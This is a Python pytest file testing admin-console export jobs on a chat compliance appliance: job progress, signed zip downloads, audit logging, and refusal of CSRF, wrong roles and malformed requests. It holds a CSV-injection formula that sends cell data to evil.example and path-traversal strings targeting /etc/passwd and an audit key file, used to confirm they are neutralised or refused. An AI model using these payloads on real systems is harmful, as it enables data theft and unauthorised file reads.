"""Export jobs in the admin console (issue 8 item 5, docs/console.md
"Exports").

Real slapd, mariadbd and nginx (two workers).  alice and bob chat over
WebSocket; the module journals, signs and ships the records.  erin
(compliance) starts exports through the API the web app uses: each is
a job in a thread pool with its progress in MariaDB, listed from any
worker, downloaded as a zip that `conclavectl verify-export` accepts.
Starting, finishing and downloading are audit records.  The security
tests try what the brief names (CSRF, other roles, path traversal,
malformed requests): each is refused and recorded.  A job whose worker
dies is shown as failed, never as running, and a job stuck on a locked
table stalls neither chat nor the console.
"""

import csv
import http.client
import io
import json
import os
import signal
import subprocess
import time
import zipfile

import pytest

from console import Console
from rawws import RawWS

APPLIANCE_WORKERS = 2
# a checkpoint over every record: an export carries only signed records;
# the export's own MariaDB reads may wait on a lock for 30 s
APPLIANCE_EXTRA_HTTP = """
conclave_audit_checkpoint_records 1;
conclave_audit_db_timeout 30s;
conclave_admin_export_max 4;
"""

FORMATS = ["actiance", "csv", "eml", "jsonl"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def msg(to, body, id):
    return ("<message xmlns='jabber:client' to='%s' type='chat' id='%s'>"
            "<body>%s</body></message>" % (to, id, body))


def admin_records(app, action):
    rows = app.mariadb.query(
        "SELECT status, actor_user, payload FROM audit_record "
        "WHERE event = 'admin' AND peer = '%s' ORDER BY ts_utc_us" % action,
        database=app.mariadb.database)
    return [(r[0], r[1], json.loads(r[2])) for r in rows]


def wait_record(app, action, pred, timeout=20):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for rec in admin_records(app, action):
            if pred(rec):
                return rec
        time.sleep(0.2)
    pytest.fail("no %r audit record as expected: %r"
                % (action, admin_records(app, action)))


def params(rec):
    return rec[2].get("params", {})


@pytest.fixture(scope="module")
def chat(appliance):
    port = appliance.nginx.http_port
    a = RawWS(port)
    a.login("alice", resource="desk")
    b = RawWS(port)
    b.login("bob", resource="phone")
    for i in range(30):
        a.send(msg("bob@example.com", "export filler %d walrus7" % i,
                   "e%d" % i))
    b.expect(r"id='e29'")
    b.send(msg("alice@example.com", "reply in kind 会议 😀", "r1"))
    a.expect(r"id='r1'")
    # a body a spreadsheet would run as a formula (OWASP CSV injection)
    b.send(msg("alice@example.com", FORMULA.replace("&", "&amp;")
               .replace('"', "&quot;"), "f1"))
    a.expect(r"id='f1'")
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        n = appliance.mariadb.scalar(
            "SELECT COUNT(*) FROM audit_record WHERE event = 'message'",
            database=appliance.mariadb.database)
        if int(n) >= 32:
            break
        time.sleep(0.2)
    else:
        pytest.fail("messages not shipped")
    yield {"alice": a, "bob": b}
    a.close()
    b.close()


@pytest.fixture(scope="module")
def vkey(appliance):
    return appliance.conclavectl("vkey").stdout.strip()


def signed_in(app, user):
    c = Console(app.base_url)
    c.signin(user, user + "-pw")
    return c


@pytest.fixture
def erin(appliance):
    return signed_in(appliance, "erin")


def wait_job(c, job_id, timeout=60):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        status, doc = c.get("exports")
        assert status == 200, doc
        jobs = {j["id"]: j for j in doc["exports"]}
        if job_id in jobs and jobs[job_id]["state"] != "running":
            return jobs[job_id]
        time.sleep(0.2)
    pytest.fail("export %s still running" % job_id)


def download(c, job_id, path):
    status, hdrs, payload = c.request("GET", "api/download?id=" + job_id)
    assert status == 200, payload[:200]
    assert hdrs["Content-Type"] == "application/zip"
    disp = hdrs["Content-Disposition"]
    assert disp.startswith('attachment; filename="conclave-'), disp
    assert hdrs["X-Content-Type-Options"] == "nosniff"
    with open(path, "wb") as f:
        f.write(payload)
    return disp


# -- the job, its progress and its download ----------------------------

def test_erin_exports_downloads_and_the_zip_verifies(appliance, chat, erin,
                                                     vkey, tmp_path):
    status, doc = erin.post("exports", {"format": "actiance",
                                        "user": "alice"})
    assert status == 202, doc
    job_id = doc["id"]
    assert len(job_id) == 16 and doc["state"] == "running"

    job = wait_job(erin, job_id)
    assert job["state"] == "done", job
    assert job["format"] == "actiance"
    assert job["user"] == "erin@example.com"
    assert job["params"]["user"] == "alice@example.com"
    assert job["done"] == job["total"] and job["total"] >= 32
    assert job["size"] > 0 and job["file"].endswith(".zip")
    assert job["error"] is None and job["finished"] >= job["created"]

    z = str(tmp_path / "export.zip")
    download(erin, job_id, z)
    assert os.path.getsize(z) == job["size"]
    with zipfile.ZipFile(z) as zf:
        names = zf.namelist()
        assert "manifest.txt" in names and "manifest.sig" in names
        xml = [n for n in names if n.endswith(".xml")]
        assert xml, names
        assert "walrus7" in zf.read(xml[0]).decode()
    r = appliance.conclavectl("verify-export", "--vkey", vkey, z,
                              check=False)
    assert r.returncode == 0, r.stdout + r.stderr

    # start, end and download are in the chain, with the job's id
    wait_record(appliance, "export", lambda r: r[0] == "success"
                and params(r).get("id") == job_id
                and params(r).get("format") == "actiance"
                and r[1] == "erin@example.com")
    wait_record(appliance, "export-done", lambda r: r[0] == "success"
                and params(r).get("id") == job_id
                and params(r).get("records") == job["total"])
    wait_record(appliance, "download", lambda r: r[0] == "success"
                and params(r).get("id") == job_id
                and params(r).get("size") == job["size"])


def test_several_exports_run_at_once_in_every_format(appliance, chat, vkey,
                                                    tmp_path):
    # two sessions: the listing is the same whichever worker answers
    c1 = signed_in(appliance, "erin")
    ids = {}
    for fmt in FORMATS:
        status, doc = c1.post("exports", {"format": fmt})
        assert status == 202, doc
        ids[fmt] = doc["id"]
    c2 = signed_in(appliance, "erin")
    for fmt, job_id in ids.items():
        job = wait_job(c2, job_id)
        assert job["state"] == "done", job
        z = str(tmp_path / (fmt + ".zip"))
        download(c2, job_id, z)
        r = appliance.conclavectl("verify-export", "--vkey", vkey, z,
                                  check=False)
        assert r.returncode == 0, (fmt, r.stdout + r.stderr)
        with zipfile.ZipFile(z) as zf:
            assert "Format: %s" % fmt in zf.read("manifest.txt").decode()


def test_a_time_window_and_a_room_filter(appliance, chat, erin):
    now_ms = int(time.time() * 1000)
    status, doc = erin.post("exports", {"format": "jsonl",
                                        "since": now_ms + 3600 * 1000})
    assert status == 202, doc
    job = wait_job(erin, doc["id"])
    assert job["state"] == "done" and job["total"] == 0, job
    status, doc = erin.post("exports", {"format": "csv",
                                        "room": "ops@conference.example.com",
                                        "until": now_ms})
    assert status == 202, doc
    assert wait_job(erin, doc["id"])["state"] == "done"


def strings(v):
    """Every string in a JSON value, nested JSON text decoded too."""
    if isinstance(v, dict):
        return [s for x in v.values() for s in strings(x)]
    if isinstance(v, list):
        return [s for x in v for s in strings(x)]
    if isinstance(v, str):
        try:
            inner = json.loads(v)
        except ValueError:
            return [v]
        return [v] + (strings(inner) if isinstance(inner, (dict, list))
                      else [])
    return []


def test_csv_neutralises_formulas_and_jsonl_keeps_the_bytes(appliance, chat,
                                                           erin, tmp_path):
    status, doc = erin.post("exports", {"format": "csv", "user": "bob"})
    assert status == 202, doc
    assert wait_job(erin, doc["id"])["state"] == "done"
    z = str(tmp_path / "f.zip")
    download(erin, doc["id"], z)
    with zipfile.ZipFile(z) as zf:
        rows = list(csv.reader(io.StringIO(zf.read("posts.csv").decode(),
                                           newline="")))
        raw = [json.loads(line) for line in
               zf.read("records.jsonl").decode().splitlines()]
    col = rows[0].index("Post Message")
    bodies = [r[col] for r in rows[1:]]
    assert "'" + FORMULA in bodies, bodies
    assert not [b for b in bodies if b[:1] in ("=", "+", "-", "@")]
    assert FORMULA in strings(raw), "records.jsonl lost the exact body"


# -- refusals -------------------------------------------------------------

@pytest.mark.parametrize("body", [
    {},
    {"format": "pdf"},
    {"format": "actiance", "since": "yesterday"},
    {"format": "actiance", "since": 2000, "until": 1000},
    {"format": "actiance", "since": -5},
    {"format": "actiance", "user": "alice/desk"},
    {"format": "actiance", "user": "../../etc"},
    {"format": "actiance", "user": "x" * 300},
    {"format": "actiance", "room": "ops"},
    {"format": "actiance", "user": ["alice"]},
    {"format": "actiance", "path": "/tmp"},
])
def test_malformed_export_requests_are_a_400(appliance, erin, body):
    status, doc = erin.post("exports", body)
    assert (status, doc) == (400, {"error": "bad-request"}), body


def test_a_body_that_is_not_an_object_is_a_400(appliance, erin):
    status, _, payload = erin.request(
        "POST", "api/exports", raw_body=b"[1, 2]",
        headers={"X-CSRF-Token": erin.csrf,
                 "Content-Type": "application/json"})
    assert status == 400, payload
    wait_record(appliance, "export", lambda r: r[0] == "fail"
                and r[2]["error"]["code"] == "bad-request")


def test_exports_without_a_csrf_token_are_refused_and_recorded(appliance,
                                                               erin):
    before = len(erin.get("exports")[1]["exports"])
    status, doc = erin.post("exports", {"format": "csv"}, csrf=False)
    assert (status, doc) == (403, {"error": "csrf"})
    rec = wait_record(appliance, "exports", lambda r: r[0] == "fail"
                      and r[2]["error"]["code"] == "csrf")
    assert rec[1] == "erin@example.com"
    # and no job was started
    assert len(erin.get("exports")[1]["exports"]) == before


@pytest.mark.parametrize("who", ["grace", "frank"])
def test_other_roles_cannot_export_list_or_download(appliance, chat, who):
    erin = signed_in(appliance, "erin")
    status, doc = erin.post("exports", {"format": "jsonl"})
    assert status == 202
    job_id = doc["id"]
    wait_job(erin, job_id)
    c = signed_in(appliance, who)
    for method, name, body in (("POST", "exports", {"format": "csv"}),
                               ("GET", "exports", None),
                               ("GET", "download?id=" + job_id, None)):
        status, doc = c.api(method, name, body=body)
        assert (status, doc) == (403, {"error": "forbidden"}), name
    wait_record(appliance, "download", lambda r: r[0] == "fail"
                and r[1] == "%s@example.com" % who
                and r[2]["error"]["code"] == "forbidden")


def test_a_refused_post_leaves_the_connection_usable(appliance):
    # the refused body is discarded: on a keep-alive connection it would
    # otherwise be read as the next request
    grace = signed_in(appliance, "grace")
    conn = http.client.HTTPConnection("127.0.0.1", appliance.nginx.http_port,
                                      timeout=10)
    cookie = {"Cookie": "conclave_admin=" + grace.cookie,
              "Content-Type": "application/json"}
    body = json.dumps({"format": "csv", "pad": "x" * 2000})
    for name in ("exports", "holds", "retention"):
        conn.request("POST", "/admin/api/" + name, body=body,
                     headers=dict(cookie, **{"X-CSRF-Token": grace.csrf}))
        r = conn.getresponse()
        assert (r.status, json.loads(r.read())) == \
            (403, {"error": "forbidden"}), name
        conn.request("GET", "/admin/api/me", headers=cookie)
        r = conn.getresponse()
        assert r.status == 200 and json.loads(r.read())["user"] == "grace"
    conn.close()


@pytest.mark.parametrize("raw", [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fconf%2faudit.key",
    "0123456789abcde/",
    "0123456789ABCDEF",
    "0123456789abcdef0",
    "",
])
def test_path_traversal_in_download_is_refused_and_recorded(appliance, erin,
                                                            raw):
    status, _, payload = erin.request("GET", "api/download?id=" + raw)
    assert status == 400, payload
    assert json.loads(payload) == {"error": "bad-request"}
    wait_record(appliance, "download", lambda r: r[0] == "fail"
                and r[2]["error"]["code"] == "bad-request")


def test_download_of_an_unknown_export_is_a_404(appliance, erin):
    status, doc = erin.get("download", id="0123456789abcdef")
    assert (status, doc) == (404, {"error": "no-such-export"})


# -- a job that cannot finish ------------------------------------------------

def test_a_killed_worker_leaves_no_job_running_and_stalls_nothing(
        appliance, chat, erin):
    # a session that holds audit_record: the job's reads wait on it
    db = appliance.mariadb
    locker = subprocess.Popen(
        ["mariadb", "--no-defaults", "--unbuffered", "--batch", "-S",
         db.socket, "-uroot", "-D",
         db.database], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        text=True)
    try:
        locker.stdin.write("LOCK TABLES audit_record WRITE;\n"
                           "SELECT 'locked';\n")
        locker.stdin.flush()
        assert locker.stdout.readline().strip() == "locked"

        status, doc = erin.post("exports", {"format": "actiance"})
        assert status == 202, doc
        job_id = doc["id"]
        time.sleep(1)
        status, doc = erin.get("exports")
        job = {j["id"]: j for j in doc["exports"]}[job_id]
        assert job["state"] == "running", job

        # the event loops are free: the console and chat still answer
        t0 = time.monotonic()
        assert erin.get("me")[0] == 200
        chat["alice"].send(msg("bob@example.com", "still here", "s1"))
        chat["bob"].expect(r"id='s1'")
        assert time.monotonic() - t0 < 10

        pid = int(appliance.mariadb.scalar(
            "SELECT pid FROM console_export WHERE id = '%s'" % job_id,
            database=db.database))
        assert pid in appliance.nginx.worker_pids()
        os.kill(pid, signal.SIGKILL)
        appliance.nginx.expect_alert(r"worker process %d exited on signal 9"
                                     % pid)
    finally:
        locker.stdin.write("UNLOCK TABLES;\n")
        locker.stdin.close()
        locker.wait(timeout=30)

    job = wait_job(erin, job_id)
    assert job["state"] == "failed", job
    assert "interrupted" in job["error"]
    status, doc = erin.get("download", id=job_id)
    assert (status, doc) == (409, {"error": "not-ready"})


# -- expiry (conclave_admin_export_keep) -------------------------------------

def test_old_exports_expire_files_go_and_a_download_is_410(make_appliance,
                                                           tmp_path):
    app = make_appliance(workers=2, extra_http="""
        conclave_audit_checkpoint_records 1;
        conclave_admin_export_keep 3s;
    """)
    a = RawWS(app.nginx.http_port)
    a.login("alice", resource="desk")
    a.send(msg("bob@example.com", "expiring walrus", "x1"))
    deadline = time.monotonic() + 30
    while int(app.mariadb.scalar(
            "SELECT COUNT(*) FROM audit_record WHERE event = 'message'",
            database=app.mariadb.database)) < 1:
        assert time.monotonic() < deadline, "message not shipped"
        time.sleep(0.2)
    a.close()

    c = signed_in(app, "erin")
    status, doc = c.post("exports", {"format": "jsonl"})
    assert status == 202, doc
    job = wait_job(c, doc["id"])
    assert job["state"] == "done", job
    jobdir = os.path.join(app.nginx.workdir, "exports", job["id"])
    assert os.listdir(jobdir) == [job["file"]]
    # fresh: it downloads
    download(c, job["id"], str(tmp_path / "fresh.zip"))

    # after the keep period one worker's timer removes the zip and its
    # directory and marks the row; the listing says so
    deadline = time.monotonic() + 30
    while True:
        jobs = {j["id"]: j for j in c.get("exports")[1]["exports"]}
        if jobs[job["id"]]["state"] == "expired":
            break
        assert time.monotonic() < deadline, jobs[job["id"]]
        time.sleep(0.5)
    assert jobs[job["id"]]["file"] is None
    assert not os.path.exists(jobdir)

    status, doc = c.get("download", id=job["id"])
    assert (status, doc) == (410, {"error": "expired"})
    wait_record(app, "download", lambda r: r[0] == "fail"
                and r[2]["error"]["code"] == "expired"
                and params(r).get("id") == job["id"])
    log = open(os.path.join(app.nginx.workdir, "logs", "error.log")).read()
    assert "1 export expired, 1 file removed" in log
